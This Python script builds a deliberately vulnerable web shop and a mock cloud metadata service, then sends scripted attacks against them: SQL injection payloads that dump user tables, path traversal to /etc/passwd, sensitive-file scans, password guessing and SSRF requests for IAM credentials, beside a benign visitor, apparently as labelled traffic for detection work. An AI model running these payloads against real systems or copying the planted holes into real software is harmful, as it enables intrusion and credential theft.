"""A small shop over HTTP with the faults that web scanners look for, a scanner that looks for them, and a visitor who does not.

It also shows previews of links, also of those that lead to its instance's metadata: METADATA is that service, as it answers without a session.

web-attacks.py serve|sql|traversal|scan|guess|ssrf|honest ADDRESS
"""
import base64
import http.client
import http.server
import json
import os
import random
import sqlite3
import string
import sys
import threading
import time
import urllib.parse
import urllib.request

ROOT = os.path.join(os.environ.get("SHOP", "/nonexistent"), "")
AGENT = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"


class Shop(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    server_version = "shop"
    db = sqlite3.connect(":memory:", check_same_thread=False)

    def log_message(self, *_):
        pass

    def answer(self, code, body, kind="text/html", **headers):
        body = body if isinstance(body, bytes) else body.encode()
        self.send_response(code)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(body)))
        for name, value in headers.items():
            self.send_header(name.replace("_", "-"), value)
        self.end_headers()
        self.wfile.write(body)

    def do_GET(self):
        path, _, query = self.path.partition("?")
        q = {k: v[0] for k, v in urllib.parse.parse_qs(query).items()}
        if path == "/item":
            return self.item(q.get("id", "1"))
        if path == "/file":
            return self.file(q.get("name", ""))
        if path == "/preview":
            return self.preview(q.get("url", ""))
        if path == "/search":
            return self.answer(200, "<p>nothing like %s</p>" % q.get("q", "").replace("<", "&lt;"))
        if path == "/private":
            good = self.headers.get("Authorization") == "Basic " + base64.b64encode(b"admin:Summer2026!").decode()
            return self.answer(200, "in") if good else self.answer(401, "no", WWW_Authenticate='Basic realm="shop"')
        if path in ("/", "/about", "/style.css", "/logo.png"):
            return self.answer(200, "<html><title>Shop</title><a href=/item?id=1>1</a></html>")
        return self.answer(404, "not found")

    def do_POST(self):
        form = urllib.parse.parse_qs(self.rfile.read(int(self.headers.get("Content-Length", "0"))).decode())
        if form.get("password") == ["Summer2026!"]:
            return self.answer(303, "", Location="/", Set_Cookie="session=%x" % random.getrandbits(64))
        return self.answer(200, "<form>wrong user or password</form>")

    def item(self, wanted):  # the fault: the number is put into the statement as it came
        try:
            rows = self.db.execute("select name, price from items where id = " + wanted).fetchall()
        except sqlite3.Error as e:
            return self.answer(500, "sqlite3.OperationalError: %s in SELECT name, price FROM items" % e)
        self.answer(200, json.dumps(rows), "application/json")

    def preview(self, link):  # the fault: the link is followed wherever it leads
        try:
            with urllib.request.urlopen(link, timeout=3) as r:
                self.answer(200, r.read(4096), r.headers.get("Content-Type", "text/plain"))
        except (OSError, ValueError):
            self.answer(502, "no preview")

    def file(self, name):  # the fault: the steps up are followed
        try:
            with open(os.path.join(ROOT, name), "rb") as f:
                self.answer(200, f.read(), "text/plain")
        except OSError:
            self.answer(404, "no such file")


class Metadata(http.server.BaseHTTPRequestHandler):
    """The metadata service of an instance whose role is web-role, in its first version. Its keys are made up anew each time."""

    def log_message(self, *_):
        pass

    def do_GET(self):
        base, some = "/latest/meta-data/iam/security-credentials/", lambda n: "".join(random.choices(string.ascii_letters + string.digits, k=n))
        keys = {"Code": "Success", "Type": "AWS-HMAC", "AccessKeyId": "ASIA" + some(16).upper(), "SecretAccessKey": some(40), "Token": some(300),
                "LastUpdated": "2026-03-02T04:00:00Z", "Expiration": "2026-03-02T10:00:00Z"}
        body = {base: "web-role", base + "web-role": json.dumps(keys, indent=2), "/latest/meta-data/": "iam/\ninstance-id\nlocal-ipv4"}.get(self.path, "")
        self.send_response(200 if body else 404)
        self.send_header("Content-Type", "text/plain")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body.encode())


def serve(address):
    Shop.db.executescript("create table items (id integer, name text, price real); insert into items values (1, 'lamp', 9.9), (2, 'chair', 49);"
                          "create table users (name text, word text); insert into users values ('admin', 'x')")
    shop = http.server.ThreadingHTTPServer((address, 80), Shop)
    if "METADATA" in os.environ:
        threading.Thread(target=http.server.HTTPServer((os.environ["METADATA"], 80), Metadata).serve_forever, daemon=True).start()
    shop.serve_forever()


class Visit:
    """One visitor: a connection that is kept, and what was asked last."""

    def __init__(self, address, agent=AGENT):
        self.conn, self.headers = http.client.HTTPConnection(address, 80, timeout=10), {"User-Agent": agent, "Accept": "*/*"}

    def get(self, path, **headers):
        self.conn.request("GET", path, headers=self.headers | headers)
        r = self.conn.getresponse()
        return r.status, r.read()

    def post(self, path, **form):
        self.conn.request("POST", path, urllib.parse.urlencode(form), self.headers | {"Content-Type": "application/x-www-form-urlencoded"})
        r = self.conn.getresponse()
        return r.status, r.read()


def sql(address):
    v = Visit(address, "sqlmap/1.7.2#stable (https://sqlmap.org)")
    for value in ["1", "1'", "1 AND 4812=4812", "1 AND 4812=4813", "1') AND (SELECT 2*(IF((SELECT * FROM (SELECT 1))s, 8, 9)))-- x", "1 ORDER BY 1-- -",
                  "1 ORDER BY 3-- -", "1 UNION ALL SELECT NULL,NULL-- -", "-1 UNION ALL SELECT name,sql FROM sqlite_master-- -",
                  "-1 UNION ALL SELECT name,word FROM users-- -", "1;SELECT LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(500000/2))))--"]:
        v.get("/item?id=" + urllib.parse.quote(value))


def traversal(address):
    v = Visit(address)
    for name in ["logo.png", "../etc/passwd", "../../../../../../../../etc/passwd", "..%2f..%2f..%2f..%2f..%2f..%2f..%2fetc%2fpasswd",
                 "....//....//....//etc/passwd", "..%252f..%252f..%252fetc%252fpasswd", "/etc/passwd", "../../../../../../../proc/self/status"]:
        v.get("/file?name=" + name)


def scan(address):
    v = Visit(address)
    names = "admin backup test old dev api login config phpinfo.php wp-login.php server-status .env .git/config .svn/entries .htpasswd backup.zip db.sql"
    more = "cgi-bin/ console manager/html actuator/env solr/ jenkins/ users uploads private2 tmp logs error_log debug shell.php robots.txt sitemap.xml"
    for name in (names + " " + more).split() + ["old/%d" % n for n in range(15)]:
        v.get("/" + name)


def guess(address):
    for n in range(28):
        v = Visit(address)
        v.post("/login", user="admin", password="guess%d" % (n * 7919 % 10007))
    Visit(address).post("/login", user="admin", password="Summer2026!")


def ssrf(address):
    v = Visit(address)
    v.get("/")
    for link in ["http://169.254.169.254/latest/meta-data/", "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
                 "http://169.254.169.254/latest/meta-data/iam/security-credentials/web-role"]:
        v.get("/preview?url=" + urllib.parse.quote(link, safe=""))
        time.sleep(1)


def honest(address):
    v = Visit(address)
    for path in ["/", "/style.css", "/logo.png", "/favicon.ico", "/item?id=1", "/item?id=2", "/search?q=O%27Brien", "/search?q=select+a+chair+or+table",
                 "/search?q=1+%2B+1+%3D+2", "/search?q=where+to+order+by+phone", "/file?name=../shop/logo.png", "/about", "/abuot"]:
        v.get(path)
        time.sleep(0.4)
    for word in ["Sumer2026!", "summer2026!", "Summer2026!"]:
        v.post("/login", user="anna", password=word)
        time.sleep(1)
    v.get("/")


globals()[sys.argv[1]](sys.argv[2])
